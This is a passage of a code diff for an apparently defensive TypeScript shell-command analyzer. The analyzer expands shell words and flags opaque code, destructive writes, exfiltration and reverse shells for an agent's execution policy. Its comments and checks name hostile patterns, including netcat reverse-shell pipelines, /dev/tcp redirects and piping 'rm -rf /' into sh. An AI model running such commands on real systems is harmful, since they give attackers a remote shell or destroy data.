@@ -1,6 +1,21 @@
 import sh, { type ShNode } from 'mvdan-sh';
+import { lookupTable } from '../../../lib/lookup-table.ts';
+import { memoizeText } from '../../../lib/text-memo.ts';
+import {
+  type CatalogueContext,
+  DEFAULT_CATALOGUE_CONTEXT,
+  judgeArgv as judgeCatalogue,
+} from '../catalogue/index.ts';
 import type { Finding } from '../codes.ts';
-import { analyzeHost, analyzeUrl, DEFAULT_EGRESS_SETTINGS, type EgressSettings } from './egress.ts';
+import { DEFAULT_EXECUTION_SETTINGS, type ExecutionSettings } from '../execution.ts';
+import {
+  analyzeHost,
+  analyzeUrl,
+  DEFAULT_EGRESS_SETTINGS,
+  type EgressSettings,
+  isTrustedHost,
+} from './egress.ts';
+import { judgeNetworkCommand, NETWORK_TOOLS, type ToolInput, type ToolWord } from './network-tools.ts';
 import {
   classifyPath,
   DEFAULT_PATH_CONTEXT,
@@ -8,47 +23,148 @@ import {
   normalizePath,
   type PathContext,
 } from './paths.ts';
-import { readSimpleScript, type SimpleStatement } from './shell-simple.ts';
+import { judgeContainerRun } from './shell/containers.ts';
+import { applyFilter, echoOutput, interpretEscapes, MAX_DECODED, printfOutput } from './shell/decode.ts';
+import { analyzeInlineCode, languageOf } from './shell/inline-code.ts';
+import { readSimpleScript, type SimpleStatement, type SimpleWord } from './shell-simple.ts';
 
 // mvdan/sh is the parser behind shfmt. Its GopherJS build (`mvdan-sh`) is synchronous and
 // returns the full syntax tree; the WASM build (`sh-syntax`) instantiates a fresh module per
 // call (~9 ms) and serialises commands without their words, so it cannot be walked.
 const { syntax } = sh;
 const parser = syntax.NewParser();
+const splitBraces = (syntax as unknown as { SplitBraces(word: ShNode): ShNode }).SplitBraces;
 
-/** Bigger scripts are judged by the linear word splitter rather than the full parser. */
+/**
+ * Budgets (verdict README, "Budgets"). A script above PARSE_LIMIT is read by the linear word
+ * splitter, which resolves no expansion, so an unknown word in command position there is opaque.
+ * Past the other limits the command is refused as too complex to resolve: a guard that gave up
+ * silently would be walked around by padding.
+ */
 const PARSE_LIMIT = 32 * 1024;
-/** How deep `bash -c`, `eval` and inline interpreters may nest before we stop unwrapping. */
-const MAX_DEPTH = 6;
+/** Characters handed to the parser in one analysis, nested scripts included. */
+const PARSE_BUDGET = 256 * 1024;
+/** How deep `bash -c`, `eval`, decoders, functions and inline interpreters may nest. */
+const MAX_DEPTH = 8;
+/** Simple commands judged in one analysis (loops and functions are walked again per item). */
+const MAX_COMMANDS = 4000;
+/** Fields one word may expand to (brace expansion), and items a loop or xargs is judged with. */
+const MAX_FIELDS = 256;
+const MAX_ITEMS = 32;
 
 export interface ShellContext {
   egress: EgressSettings;
+  /** Home and the agent's workspace: what a wipe is judged against. */
   paths: PathContext;
+  /** Where relative paths resolve now: the workspace, until a `cd`. */
+  cwd: PathContext;
+  catalogue: CatalogueContext;
+  execution: ExecutionSettings;
 }
 
-/** One word of a command: its literal text as the shell would pass it, when knowable. */
-interface ShWord {
+/** One field of a command after expansion: the text the program would receive, when knowable. */
+interface Field {
   text: string;
-  /** Part of the word comes from an expansion whose value we do not know. */
+  /** Part of the field comes from an expansion whose value is not known. */
   dynamic: boolean;
+  /** Files that a command substitution in this field reads. */
+  reads?: string[];
+  /** What the unknown part is: the output of a fetch, of a decoder, of a program. */
+  opaque?: string;
+  /**
+   * The unknown part is an unknown variable, fetched data or decoded data: in command position
+   * that is opaque code. (A substitution that computes a path or reads a local file names a
+   * program on this machine instead.)
+   */
+  codeLike?: boolean;
+  /** How the field was resolved (`$X`, `an alias`, `base64 -d`…), for messages. */
+  via?: string;
+  /** The field carries data that must not leave (see Stream.sensitive). */
+  sensitive?: string;
+  /** The commands a substitution in the field runs (see Stream.from). */
+  from?: { name: string; args: string[] }[];
+  /**
+   * The text before backslashes were removed, where it differs: cmd and PowerShell keep
+   * `C:\Windows\System32` whole, a POSIX shell would not.
+   */
+  raw?: string;
 }
 
-interface Redirect {
-  kind: 'out' | 'in' | 'heredoc';
-  target: string;
+/** What a command writes to its standard output, as far as it is known. */
+interface Stream {
+  literal?: string;
+  files?: string[];
+  /** The output of a network fetch: a URL or a host. */
+  fetched?: { url?: string; host?: string; tool: string };
+  /** Decoded or generated data that is not literal. */
+  unknown?: string;
+  /** The unknown data comes out of a decoder (`base64 -d`, `xxd -r`, `rev`, `tr`…). */
+  decoded?: boolean;
+  /** An interactive shell's output (`sh -i | nc …` is a reverse shell). */
+  shell?: boolean;
+  /** A network connection's output (`nc host 1 | sh` is a reverse shell). */
+  socket?: string;
+  /** What the data holds that must not leave: `the process environment` (secrets live there). */
+  sensitive?: string;
+  /** The command that produced it, and what that command read. */
+  producer?: { words: Field[]; stdin?: Stream };
+  /** `find` results: its roots, and whether a test narrows them. */
+  found?: { roots: Field[]; narrowed: boolean };
+}
+
+interface Value {
+  text: string;
+  known: boolean;
+  /** An array: `"${a[@]}"` gives its words as separate fields. */
+  array?: boolean;
+  reads?: string[];
+  opaque?: string;
+  codeLike?: boolean;
+}
+
+interface Scope {
+  /** Created on first write: most commands assign nothing. */
+  vars?: Map<string, Value>;
+  aliases?: Map<string, string>;
+  functions?: Map<string, ShNode>;
+  positional: Field[];
 }
 
 interface Walk {
   ctx: ShellContext;
   findings: Finding[];
   depth: number;
+  scope: Scope;
+  budget: { commands: number; parsed: number; exhausted: boolean };
 }
 
 // Redirection operators of mvdan.cc/sh/v3/syntax.RedirOperator.
 const REDIR_OUT = new Set([54, 55, 59, 60, 64, 65]);
 const REDIR_IN = 56;
-const REDIR_HEREDOC = new Set([61, 62, 63]);
+const REDIR_HEREDOC = new Set([61, 62]);
+const REDIR_HERESTRING = 63;
 const PIPE_OPS = new Set([12, 13]);
+// Parameter expansion operators (syntax.ParExpOperator).
+const PAR = {
+  altUnset: 68,
+  alt: 69,
+  defUnset: 70,
+  def: 71,
+  errUnset: 72,
+  err: 73,
+  assignUnset: 74,
+  assign: 75,
+  shortSuffix: 76,
+  longSuffix: 77,
+  shortPrefix: 78,
+  longPrefix: 79,
+  upperFirst: 80,
+  upperAll: 81,
+  lowerFirst: 82,
+  lowerAll: 83,
+};
+
+const DEFAULT_IFS = ' \t\n';
 
 function nodeType(node: unknown): string {
   return node ? syntax.NodeType(node as ShNode) : '';
@@ -58,160 +174,691 @@ function list(value: unknown): ShNode[] {
   return Array.isArray(value) ? (value as ShNode[]) : [];
 }
 
-function wordText(word: ShNode | undefined, walk: Walk): ShWord {
-  let text = '';
-  let dynamic = false;
-  for (const part of list(word?.['Parts']))
-    collectPart(part, walk, (s, d) => {
-      text += s;
-      dynamic ||= d;
-    });
-  return { text, dynamic };
+function litValue(node: unknown): string {
+  return String((node as ShNode | undefined)?.['Value'] ?? '');
 }
 
-function collectPart(part: ShNode, walk: Walk, emit: (text: string, dynamic: boolean) => void): void {
-  switch (nodeType(part)) {
-    case 'Lit':
-      emit(String(part['Value'] ?? ''), false);
-      return;
-    case 'SglQuoted':
-      emit(String(part['Value'] ?? ''), false);
-      return;
-    case 'DblQuoted':
-      for (const inner of list(part['Parts'])) collectPart(inner, walk, emit);
-      return;
-    case 'ParamExp': {
-      const name = String((part['Param'] as ShNode | undefined)?.['Value'] ?? '');
-      emit(name === 'HOME' ? '~' : `$${name}`, name !== 'HOME');
-      return;
-    }
-    case 'CmdSubst':
-    case 'ProcSubst':
-      walkStmts(list(part['Stmts']), walk);
-      emit('$(…)', true);
-      return;
+function baseName(word: string): string {
+  const slash = Math.max(word.lastIndexOf('/'), word.lastIndexOf('\\'));
+  const base = slash >= 0 ? word.slice(slash + 1) : word;
+  return base.length > 4 && base.charCodeAt(base.length - 4) === 46 ? base.replace(/\.exe$/i, '') : base;
+}
+
+function describeTarget(target: string): string {
+  return target.length > 60 ? `${target.slice(0, 57)}...` : target;
+}
+
+function joinFields(fields: readonly Field[]): string {
+  return fields.map((f) => f.text).join(' ');
+}
+
+// ------------------------------------------------------------------------------ findings
+
+function push(walk: Walk, code: Finding['code'], message: string, location?: string): void {
+  walk.findings.push(location === undefined ? { code, message } : { code, message, location });
+}
+
+function destructive(walk: Walk, message: string, location: string): void {
+  push(walk, 'DEST_MUTATION', message, location);
+}
+
+/** Code a shell or interpreter would run that cannot be resolved: refused unless the account allows it. */
+function opaque(walk: Walk, what: string): void {
+  if (walk.ctx.execution.allow_opaque) return;
+  push(
+    walk,
+    'POLICY_VIOLATION',
+    `cannot tell what would run: ${what}; opaque code is refused unless the account allows it (PUT /v1/settings/execution)`,
+    'opaque code',
+  );
+}
+
+function overBudget(walk: Walk, what: string): void {
+  if (walk.budget.exhausted) return;
+  walk.budget.exhausted = true;
+  push(
+    walk,
+    'POLICY_VIOLATION',
+    `the command is too complex to resolve within the analysis budget (${what})`,
+  );
+}
+
+function reverseShell(walk: Walk, how: string): void {
+  push(walk, 'EXFILTRATION_BLOCKED', `reverse shell: ${how}`, 'network');
+}
+
+// ------------------------------------------------------------------------------ scopes
+
+function newScope(positional: Field[] = [], parent?: Scope): Scope {
+  const scope: Scope = { positional };
+  if (parent?.vars) scope.vars = new Map(parent.vars);
+  if (parent?.aliases) scope.aliases = new Map(parent.aliases);
+  if (parent?.functions) scope.functions = new Map(parent.functions);
+  return scope;
+}
+
+function child(walk: Walk, scope?: Scope): Walk | undefined {
+  if (walk.depth + 1 > MAX_DEPTH) {
+    overBudget(walk, `more than ${MAX_DEPTH} levels of nested code`);
+    return undefined;
+  }
+  return { ...walk, depth: walk.depth + 1, scope: scope ?? walk.scope };
+}
+
+function lookup(walk: Walk, name: string): Value | undefined {
+  const value = walk.scope.vars?.get(name);
+  if (value !== undefined) return value;
+  if (/^\d$/.test(name)) {
+    const field = walk.scope.positional[Number(name)];
+    return field ? { text: field.text, known: !field.dynamic } : undefined;
+  }
+  if (name === '@' || name === '*') {
+    const rest = walk.scope.positional.slice(1);
+    return { text: joinFields(rest), known: rest.every((f) => !f.dynamic) && walk.depth > 0 };
+  }
+  if (name === '#') return { text: String(Math.max(0, walk.scope.positional.length - 1)), known: true };
+  switch (name) {
+    case 'HOME':
+      return { text: walk.ctx.paths.home, known: true };
+    case 'PWD':
+      return { text: walk.ctx.cwd.workspace, known: true };
+    case 'IFS':
+      return { text: DEFAULT_IFS, known: true };
+    case 'PATH':
+      return { text: '/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin', known: true };
+    case 'SHELL':
+      return { text: '/bin/sh', known: true };
+    case 'USER':
+    case 'LOGNAME':
+      return { text: baseName(walk.ctx.paths.home), known: true };
     default:
-      emit('', true);
+      return undefined;
   }
 }
 
-function walkStmts(stmts: ShNode[], walk: Walk): void {
-  for (const stmt of stmts) walkStmt(stmt, walk);
+function assign(walk: Walk, name: string, value: Value): void {
+  walk.scope.vars ??= new Map();
+  if (walk.scope.vars.size < 4096) walk.scope.vars.set(name, value);
 }
 
-function redirectsOf(stmt: ShNode, walk: Walk): Redirect[] {
-  const out: Redirect[] = [];
-  for (const redir of list(stmt['Redirs'])) {
-    const op = Number(redir['Op']);
-    if (REDIR_HEREDOC.has(op)) {
-      const body = (redir['Hdoc'] as ShNode | undefined) ?? (redir['Word'] as ShNode | undefined);
-      out.push({ kind: 'heredoc', target: wordText(body, walk).text });
+function ifsOf(walk: Walk): string {
+  const ifs = walk.scope.vars?.get('IFS');
+  return ifs?.known ? ifs.text : DEFAULT_IFS;
+}
+
+// ------------------------------------------------------------------------------ expansion
+
+/** A piece of a word before field splitting. */
+interface Piece {
+  text: string;
+  /** An unquoted expansion: its text is split into fields at IFS characters. */
+  split: boolean;
+  dynamic: boolean;
+  reads?: string[];
+  opaque?: string;
+  codeLike?: boolean;
+  via?: string;
+  /** The source text before quote removal, where it differs (`C:\Windows` unquoted). */
+  raw?: string;
+  sensitive?: string;
+  from?: { name: string; args: string[] }[];
+}
+
+function markField(field: Field, piece: Piece): void {
+  if (piece.dynamic) field.dynamic = true;
+  if (piece.reads) field.reads = [...(field.reads ?? []), ...piece.reads];
+  if (piece.opaque) field.opaque = piece.opaque;
+  if (piece.codeLike) field.codeLike = true;
+  if (piece.sensitive) field.sensitive = piece.sensitive;
+  if (piece.from) field.from = [...(field.from ?? []), ...piece.from];
+  if (piece.via) field.via = field.via ? `${field.via}, ${piece.via}` : piece.via;
+}
+
+/** Fields of a word: pieces joined, unquoted expansions split at IFS characters. */
+function fieldsOf(pieces: readonly Piece[], walk: Walk): Field[] {
+  // Most words are one literal piece: one field, nothing to split.
+  if (pieces.length === 1 && !pieces[0]!.split) {
+    const only = pieces[0]!;
+    const field: Field = { text: only.text, dynamic: false };
+    markField(field, only);
+    if (only.raw !== undefined) field.raw = only.raw;
+    return [field];
+  }
+  const ifs = ifsOf(walk);
+  const fields: Field[] = [];
+  let current: Field | undefined;
+  // A quoted or literal piece makes a field even when empty: `""` is an argument.
+  let anchored = false;
+  for (const piece of pieces) {
+    if (!piece.split || ifs === '' || piece.text === '') {
+      anchored = true;
+      current ??= { text: '', dynamic: false };
+      markField(current, piece);
+      const before = current.text;
+      current.text += piece.text;
+      if (piece.raw !== undefined || current.raw !== undefined) {
+        current.raw = (current.raw ?? before) + (piece.raw ?? piece.text);
+      }
       continue;
     }
-    const target = wordText(redir['Word'] as ShNode | undefined, walk).text;
-    if (REDIR_OUT.has(op) && !/^\d+$|^-$/.test(target)) out.push({ kind: 'out', target });
-    else if (op === REDIR_IN) out.push({ kind: 'in', target });
+    let chunk = '';
+    for (const ch of piece.text) {
+      if (ifs.includes(ch)) {
+        if (chunk !== '' || (current !== undefined && current.text !== '')) {
+          current ??= { text: '', dynamic: false };
+          current.text += chunk;
+          markField(current, piece);
+          fields.push(current);
+          current = undefined;
+        }
+        chunk = '';
+      } else {
+        chunk += ch;
+      }
+    }
+    current ??= { text: '', dynamic: false };
+    current.text += chunk;
+    markField(current, piece);
+  }
+  if (current !== undefined && (current.text !== '' || current.dynamic || anchored)) fields.push(current);
+  return fields.length > MAX_FIELDS ? fields.slice(0, MAX_FIELDS) : fields;
+}
+
+/** Unquoted literal text: a backslash quotes the next character; a backslash-newline vanishes. */
+function unescapeUnquoted(text: string): string {
+  return text.includes('\\') ? text.replace(/\\\n/g, '').replace(/\\(.)/gs, '$1') : text;
+}
+
+/** Inside double quotes a backslash quotes only `$`, backtick, `"`, `\` and newline. */
+function unescapeDouble(text: string): string {
+  return text.includes('\\') ? text.replace(/\\\n/g, '').replace(/\\([$`"\\])/g, '$1') : text;
+}
+
+function partPieces(part: ShNode, walk: Walk, quoted: boolean, out: Piece[]): void {
+  switch (nodeType(part)) {
+    case 'Lit': {
+      const value = litValue(part);
+      const text = quoted ? unescapeDouble(value) : unescapeUnquoted(value);
+      out.push(
+        text === value
+          ? { text, split: false, dynamic: false }
+          : { text, split: false, dynamic: false, raw: value },
+      );
+      return;
+    }
+    case 'SglQuoted': {
+      const value = litValue(part);
+      out.push(
+        part['Dollar']
+          ? { text: interpretEscapes(value), split: false, dynamic: false, via: "$'…' escapes" }
+          : { text: value, split: false, dynamic: false },
+      );
+      return;
+    }
+    case 'DblQuoted':
+      out.push({ text: '', split: false, dynamic: false });
+      for (const inner of list(part['Parts'])) partPieces(inner, walk, true, out);
+      return;
+    case 'ParamExp': {
+      const piece = paramPiece(part, walk, quoted);
+      // cmd and PowerShell read `$env:X`, `$true` themselves: keep the source for them.
+      const name = litValue(part['Param']);
+      if (!part['Exp'] && !part['Repl'] && !part['Slice'] && !part['Length'] && !part['Excl']) {
+        piece.raw = part['Short'] ? `$${name}` : `\${${name}}`;
+      }
+      out.push(piece);
+      return;
+    }
+    case 'CmdSubst': {
+      const output = runSubstitution(list(part['Stmts']), walk);
+      out.push(substitutionPiece(output, quoted));
+      return;
+    }
+    case 'ProcSubst': {
+      const output = runSubstitution(list(part['Stmts']), walk);
+      out.push({
+        text: '',
+        split: false,
+        dynamic: true,
+        ...(output?.files ? { reads: output.files } : {}),
+        opaque: describeStream(output) ?? 'the output of a process substitution',
+        codeLike: output?.fetched !== undefined || output?.decoded === true,
+      });
+      return;
+    }
+    case 'ArithmExp':
+      out.push({ text: '0', split: !quoted, dynamic: true });
+      return;
+    case 'ExtGlob':
+      out.push({
+        text: String(part['Pattern'] ? litValue(part['Pattern']) : '*'),
+        split: false,
+        dynamic: false,
+      });
+      return;
+    default:
+      out.push({ text: '', split: false, dynamic: true });
+  }
+}
+
+function substitutionPiece(output: Stream | undefined, quoted: boolean): Piece {
+  if (output?.literal !== undefined) {
+    return {
+      text: output.literal.replace(/\n+$/, ''),
+      split: !quoted,
+      dynamic: false,
+      via: 'a command substitution',
+    };
+  }
+  const what = describeStream(output);
+  return {
+    text: '',
+    split: !quoted,
+    dynamic: true,
+    ...(output?.files && output.files.length > 0 ? { reads: output.files } : {}),
+    ...(what ? { opaque: what } : {}),
+    ...(output?.fetched !== undefined || output?.decoded ? { codeLike: true } : {}),
+    ...(output?.sensitive ? { sensitive: output.sensitive } : {}),
+    ...(output?.producer ? { from: producersOf(output)! } : {}),
+  };
+}
+
+function describeStream(stream: Stream | undefined): string | undefined {
+  if (!stream) return undefined;
+  if (stream.fetched)
+    return `what ${stream.fetched.tool} fetches from ${stream.fetched.url ?? stream.fetched.host ?? 'the network'}`;
+  if (stream.unknown) return stream.unknown;
+  if (stream.files && stream.files.length > 0)
+    return `the contents of ${describeTarget(stream.files.join(' '))}`;
+  if (stream.socket) return `what ${stream.socket} receives`;
+  return undefined;
+}
+
+function applyCase(text: string, op: number): string {
+  switch (op) {
+    case PAR.upperFirst:
+      return text.slice(0, 1).toUpperCase() + text.slice(1);
+    case PAR.upperAll:
+      return text.toUpperCase();
+    case PAR.lowerFirst:
+      return text.slice(0, 1).toLowerCase() + text.slice(1);
+    default:
+      return text.toLowerCase();
+  }
+}
+
+/** `${X#pat}` and friends for literal patterns; a glob pattern makes the result unknown. */
+function trim(text: string, pattern: string, op: number): string | undefined {
+  if (/[*?[]/.test(pattern)) {
+    if (pattern === '*' && (op === PAR.longPrefix || op === PAR.longSuffix)) return '';
+    return undefined;
+  }
+  if ((op === PAR.shortPrefix || op === PAR.longPrefix) && text.startsWith(pattern))
+    return text.slice(pattern.length);
+  if ((op === PAR.shortSuffix || op === PAR.longSuffix) && text.endsWith(pattern))
+    return text.slice(0, text.length - pattern.length);
+  return text;
+}
+
+function wordString(word: ShNode | undefined, walk: Walk): Value {
+  if (!word) return { text: '', known: true };
+  const pieces: Piece[] = [];
+  for (const part of list(word['Parts'])) partPieces(part, walk, true, pieces);
+  return {
+    text: pieces.map((p) => p.text).join(''),
+    known: pieces.every((p) => !p.dynamic),
+    ...(pieces.some((p) => p.reads) ? { reads: pieces.flatMap((p) => p.reads ?? []) } : {}),
+    ...(pieces.find((p) => p.opaque)?.opaque ? { opaque: pieces.find((p) => p.opaque)!.opaque! } : {}),
+    ...(pieces.some((p) => p.codeLike) ? { codeLike: true } : {}),
+  };
+}
+
+function paramPiece(part: ShNode, walk: Walk, quoted: boolean): Piece {
+  const name = litValue(part['Param']);
+  let value = lookup(walk, name);
+  if (part['Excl']) {
+    // `${!X}`: the variable named by X's value.
+    value = value?.known ? lookup(walk, value.text) : undefined;
+  }
+  const exp = part['Exp'] as ShNode | undefined;
+  const via = `$${name}`;
+  if (part['Length']) return { text: String(value?.text.length ?? 0), split: false, dynamic: !value?.known };
+  if (exp) {
+    const op = Number(exp['Op']);
+    const arg = () => wordString(exp['Word'] as ShNode | undefined, walk);
+    const unsetOrNull = value === undefined || (value.known && value.text === '');
+    const colon = op === PAR.def || op === PAR.alt || op === PAR.assign || op === PAR.err;
+    const absent = colon ? unsetOrNull : value === undefined;
+    if (op === PAR.def || op === PAR.defUnset || op === PAR.assign || op === PAR.assignUnset) {
+      // An unknown variable may well be unset: its default is what an attacker hopes runs.
+      if (absent || !value?.known) {
+        const fallback = arg();
+        if (op === PAR.assign || op === PAR.assignUnset) assign(walk, name, fallback);
+        return { text: fallback.text, split: !quoted, dynamic: !fallback.known, via };
+      }
+    } else if (op === PAR.alt || op === PAR.altUnset) {
+      if (absent) return { text: '', split: !quoted, dynamic: value === undefined ? false : !value.known };
+      const alternative = arg();
+      return { text: alternative.text, split: !quoted, dynamic: !alternative.known, via };
+    } else if (op >= PAR.shortSuffix && op <= PAR.longPrefix) {
+      const pattern = arg();
+      const trimmed = value?.known && pattern.known ? trim(value.text, pattern.text, op) : undefined;
+      if (trimmed !== undefined) return { text: trimmed, split: !quoted, dynamic: false, via };
+      return { text: '', split: !quoted, dynamic: true };
+    } else if (op >= PAR.upperFirst && op <= PAR.lowerAll) {
+      if (value?.known) return { text: applyCase(value.text, op), split: !quoted, dynamic: false, via };
+    }
+  }
+  const repl = part['Repl'] as ShNode | undefined;
+  if (repl && value?.known) {
+    const from = wordString(repl['Orig'] as ShNode | undefined, walk);
+    const to = wordString(repl['With'] as ShNode | undefined, walk);
+    if (from.known && to.known && !/[*?[]/.test(from.text) && from.text !== '') {
+      const text = repl['All']
+        ? value.text.split(from.text).join(to.text)
+        : value.text.replace(from.text, to.text);
+      return { text, split: !quoted, dynamic: false, via };
+    }
+    return { text: '', split: !quoted, dynamic: true };
+  }
+  const slice = part['Slice'] as ShNode | undefined;
+  if (slice && value?.known) {
+    const offset = Number(wordString(slice['Offset'] as ShNode | undefined, walk).text);
+    const lengthNode = slice['Length'] as ShNode | undefined;
+    const length = lengthNode ? Number(wordString(lengthNode, walk).text) : undefined;
+    if (Number.isInteger(offset) && (length === undefined || Number.isInteger(length))) {
+      const text = value.text.slice(offset, length === undefined ? undefined : offset + length);
+      return { text, split: !quoted, dynamic: false, via };
+    }
+    return { text: '', split: !quoted, dynamic: true };
+  }
+  if (exp && (Number(exp['Op']) === PAR.err || Number(exp['Op']) === PAR.errUnset) && !value?.known) {
+    // `${X:?}`: the shell stops when X is unset, so no empty value ever reaches the command.
+    return { text: `\${${name}}`, split: false, dynamic: true };
+  }
+  if (value === undefined)
+    return {
+      text: '',
+      split: !quoted,
+      dynamic: true,
+      codeLike: true,
+      opaque: `$${name}, whose value is unknown`,
+    };
+  const known = value.known ? { via } : {};
+  return {
+    text: value.text,
+    split: !quoted || (value.array === true && part['Index'] !== undefined && part['Index'] !== null),
+    dynamic: !value.known,
+    ...(value.reads ? { reads: value.reads } : {}),
+    ...(value.opaque ? { opaque: value.opaque } : {}),
+    ...(value.codeLike ? { codeLike: true } : {}),
+    ...(name === 'HOME' || name === 'PWD' ? {} : known),
+  };
+}
+
+function expandBraces(word: ShNode): ShNode[] {
+  const hasBrace = list(word['Parts']).some((p) => nodeType(p) === 'Lit' && litValue(p).includes('{'));
+  if (!hasBrace) return [word];
+  const split = splitBraces(word);
+  let words: ShNode[][] = [[]];
+  for (const part of list(split['Parts'])) {
+    if (nodeType(part) !== 'BraceExp') {
+      for (const w of words) w.push(part);
+      continue;
+    }
+    const elems = list(part['Elems']);
+    let alternatives: ShNode[][];
+    if (part['Sequence']) {
+      const [from, to] = elems.map((e) => list(e['Parts']).map(litValue).join(''));
+      const a = Number(from);
+      const b = Number(to);
+      if (!Number.isInteger(a) || !Number.isInteger(b) || Math.abs(b - a) > MAX_FIELDS) return [word];
+      alternatives = [];
+      for (let n = a; a <= b ? n <= b : n >= b; n += a <= b ? 1 : -1) {
+        alternatives.push([{ Value: String(n), __lit: true } as unknown as ShNode]);
+      }
+    } else alternatives = elems.map((e) => list(e['Parts']));
+    const next: ShNode[][] = [];
+    for (const w of words) for (const alt of alternatives) next.push([...w, ...alt]);
+    if (next.length > MAX_FIELDS) return [word];
+    words = next;
+  }
+  return words.map((parts) => ({ Parts: parts, __word: true }) as unknown as ShNode);
+}
+
+function expandWord(word: ShNode | undefined, walk: Walk): Field[] {
+  if (!word) return [];
+  const out: Field[] = [];
+  const braced = expandBraces(word);
+  for (const w of braced) {
+    const pieces: Piece[] = [];
+    for (const part of list(w['Parts'])) {
+      if ((part as unknown as { __lit?: boolean }).__lit)
+        pieces.push({ text: litValue(part), split: false, dynamic: false });
+      else partPieces(part, walk, false, pieces);
+    }
+    if (braced.length > 1 && pieces[0]) pieces[0].via = 'brace expansion';
+    out.push(...fieldsOf(pieces, walk));
   }
   return out;
 }
 
-function walkStmt(stmt: ShNode, walk: Walk, stdin?: string): void {
-  const cmd = stmt['Cmd'] as ShNode | undefined;
-  const redirects = redirectsOf(stmt, walk);
-  for (const redirect of redirects) judgeRedirect(redirect, walk);
-  const heredoc = redirects.find((r) => r.kind === 'heredoc')?.target;
-  walkCommand(cmd, walk, heredoc ?? stdin);
+function expandSimpleWord(word: SimpleWord, walk: Walk, split = true): Field[] {
+  const pieces: Piece[] = word.parts.map((part) => {
+    if ('lit' in part) return { text: part.lit, split: false, dynamic: false };
+    const value = lookup(walk, part.param);
+    if (value === undefined)
+      return {
+        text: '',
+        split: split && !part.quoted,
+        dynamic: true,
+        codeLike: true,
+        opaque: `$${part.param}, whose value is unknown`,
+      };
+    return {
+      text: value.text,
+      split: split && !part.quoted,
+      dynamic: !value.known,
+      ...(value.reads ? { reads: value.reads } : {}),
+      ...(value.opaque ? { opaque: value.opaque } : {}),
+      ...(value.codeLike ? { codeLike: true } : {}),
+      ...(value.known && part.param !== 'HOME' ? { via: `$${part.param}` } : {}),
+    };
+  });
+  return fieldsOf(pieces, walk);
 }
 
-function walkCommand(cmd: ShNode | undefined, walk: Walk, stdin?: string): void {
-  if (!cmd) return;
+function valueOfFields(fields: Field[]): Value {
+  return {
+    text: joinFields(fields),
+    known: fields.every((f) => !f.dynamic),
+    ...(fields.some((f) => f.reads) ? { reads: fields.flatMap((f) => f.reads ?? []) } : {}),
+    ...(fields.find((f) => f.opaque) ? { opaque: fields.find((f) => f.opaque)!.opaque! } : {}),
+    ...(fields.some((f) => f.codeLike) ? { codeLike: true } : {}),
+  };
+}
+
+// ------------------------------------------------------------------------------ walking
+
+function runStmts(stmts: ShNode[], walk: Walk, stdin?: Stream): Stream | undefined {
+  let output: Stream | undefined;
+  let literal = '';
+  let allLiteral = true;
+  for (const stmt of stmts) {
+    output = runStmt(stmt, walk, stdin);
+    if (output?.literal !== undefined) literal += output.literal;
+    else allLiteral = false;
+  }
+  return allLiteral && stmts.length > 0 ? { literal } : output;
+}
+
+function runSubstitution(stmts: ShNode[], walk: Walk): Stream | undefined {
+  // A substitution runs in a subshell: its assignments do not leak out.
+  const inner = child(walk, newScope(walk.scope.positional, walk.scope));
+  return inner ? runStmts(stmts, inner) : undefined;
+}
+
+interface Redirects {
+  stdin?: Stream;
+}
+
+function applyRedirects(stmt: ShNode, walk: Walk): Redirects {
+  const result: Redirects = {};
+  for (const redir of list(stmt['Redirs'])) {
+    const op = Number(redir['Op']);
+    if (REDIR_HEREDOC.has(op)) {
+      const body = (redir['Hdoc'] as ShNode | undefined) ?? (redir['Word'] as ShNode | undefined);
+      const value = wordString(body, walk);
+      result.stdin = value.known
+        ? { literal: value.text }
+        : { unknown: value.opaque ?? 'a here-document with unknown expansions' };
+      continue;
+    }
+    if (op === REDIR_HERESTRING) {
+      const value = wordString(redir['Word'] as ShNode | undefined, walk);
+      result.stdin = value.known
+        ? { literal: `${value.text}\n` }
+        : {
+            unknown: value.opaque ?? 'a here-string with unknown expansions',
+            ...(value.reads ? { files: value.reads } : {}),
+          };
+      continue;
+    }
+    const target = wordString(redir['Word'] as ShNode | undefined, walk).text;
+    if (/^\/dev\/(?:tcp|udp)\//.test(target)) judgeRedirect('out', target, walk);
+    else if (REDIR_OUT.has(op) && !/^\d+$|^-$/.test(target)) judgeRedirect('out', target, walk);
+    else if (op === REDIR_IN) {
+      judgeRedirect('in', target, walk);
+      result.stdin = { files: [target] };
+    }
+  }
+  return result;
+}
+
+function runStmt(stmt: ShNode, walk: Walk, stdin?: Stream): Stream | undefined {
+  const redirects = applyRedirects(stmt, walk);
+  return runCommand(stmt['Cmd'] as ShNode | undefined, walk, redirects.stdin ?? stdin);
+}
+
+function runCommand(cmd: ShNode | undefined, walk: Walk, stdin?: Stream): Stream | undefined {
+  if (!cmd) return undefined;
   switch (nodeType(cmd)) {
     case 'CallExpr': {
-      for (const assign of list(cmd['Assigns'])) {
-        judgePathsInText(wordText(assign['Value'] as ShNode | undefined, walk).text, walk);
+      const assigns = list(cmd['Assigns']);
+      const args = list(cmd['Args']);
+      const fields: Field[] = [];
+      for (const arg of args) fields.push(...expandWord(arg, walk));
+      // `X=v cmd` gives X to the command, after its own words were expanded.
+      for (const a of assigns) {
+        const value = assignedValue(a, walk);
+        judgePathsInText(value.text, walk);
+        assign(walk, litValue(a['Name']), value);
       }
-      const words = list(cmd['Args']).map((arg) => wordText(arg, walk));
-      if (words.length > 0) judgeCommand(words, walk, stdin);
-      return;
+      if (args.length === 0) return undefined;
+      return judgeCommand(fields, walk, stdin);
     }
     case 'BinaryCmd': {
       const left = cmd['X'] as ShNode;
       const right = cmd['Y'] as ShNode;
-      walkStmt(left, walk);
-      // `echo 'rm -rf /' | sh`: what a literal printer pipes into a shell is a script.
-      walkStmt(right, walk, PIPE_OPS.has(Number(cmd['Op'])) ? literalOutput(left, walk) : undefined);
-      return;
+      if (PIPE_OPS.has(Number(cmd['Op']))) return runStmt(right, walk, runStmt(left, walk, stdin));
+      runStmt(left, walk, stdin);
+      return runStmt(right, walk);
     }
-    case 'Subshell':
+    case 'Subshell': {
+      const inner = child(walk, newScope(walk.scope.positional, walk.scope));
+      return inner ? runStmts(list(cmd['Stmts']), inner, stdin) : undefined;
+    }
     case 'Block':
-      walkStmts(list(cmd['Stmts']), walk);
-      return;
+      return runStmts(list(cmd['Stmts']), walk, stdin);
     case 'IfClause': {
       let clause: ShNode | undefined = cmd;
       while (clause) {
-        walkStmts(list(clause['Cond']), walk);
-        walkStmts(list(clause['Then']), walk);
+        runStmts(list(clause['Cond']), walk);
